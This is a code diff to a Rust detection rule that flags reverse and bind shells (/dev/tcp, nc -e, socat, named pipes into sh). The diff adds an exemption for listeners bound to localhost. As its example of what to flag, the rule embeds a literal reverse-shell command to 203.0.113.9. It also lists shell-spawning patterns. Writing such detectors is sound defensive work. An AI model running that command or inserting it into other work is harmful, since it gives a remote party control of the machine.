@@ -2,7 +2,7 @@
 
 use super::super::shell::known::{Language, interpreter};
 use super::super::shell::machine::Event;
-use super::{Look, Rule, Weight};
+use super::{Look, Rule, Weight, argv};
 use crate::model::finding::Tier;
 use crate::model::text;
 
@@ -20,7 +20,7 @@ pub(super) static RULE: Rule = Rule {
     what: "A shell's input and output are tied to a connection: `/dev/tcp`, `nc -e`, `socat exec:`, a named pipe before `nc`, or a program that does the same.",
     why: "Whoever is at the other end types into this machine.",
     instead: "There is no use of this in a skill that is not about attacks; say so, and let it be overridden for exactly these bytes.",
-    limits: "Connections that carry data and no shell are left alone.",
+    limits: "Connections that carry data and no shell are left alone, and who waits for this machine alone.",
     bad: "```sh\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n```\n",
     alike: "```sh\ntimeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo open\nnc -z localhost 5432\nsed -i s/a/b/ x.sh\n```\n",
     look: Look::Event(|event, around| match event {
@@ -39,7 +39,10 @@ pub(super) static RULE: Rule = Rule {
             });
             let named = any(around.text, &["mkfifo ", "mknod "])
                 && any(around.text, &["sh -i", "|/bin/sh", "| /bin/sh", "|/bin/bash", "| /bin/bash"]);
-            (given || option || named).then(|| format!("`{name}` gives a shell to whoever connects"))
+            // Who waits on this machine alone gives nothing to another one.
+            let near = argv::has(argv, &["127.0.0.1", "localhost", "::1"]) && argv::short(argv, 'l');
+            (!near && (given || option || named))
+                .then(|| format!("`{name}` gives a shell to whoever connects"))
         }
         Event::Run { what, .. }
             if any(&what.text, &["dup2(", "pty.spawn("])
